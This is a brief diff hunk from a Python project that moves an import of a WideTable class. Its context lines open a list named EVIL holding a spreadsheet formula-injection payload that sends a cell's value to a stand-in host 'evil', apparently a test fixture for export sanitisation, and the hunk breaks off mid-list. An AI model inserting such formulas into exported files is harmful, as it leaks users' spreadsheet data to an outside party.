@@ -16,7 +16,7 @@ from workbench.core.jobs import JobContext
 from workbench.logs.export import export_table
 from workbench.ui.charts import writing
 from workbench.ui.charts.model import Curve
-from workbench.ui.logs.wide_table import WideTable
+from workbench.ui.logs.tables import WideTable
 
 EVIL = [
     '=HYPERLINK("http://evil/?"&A1,"x")',
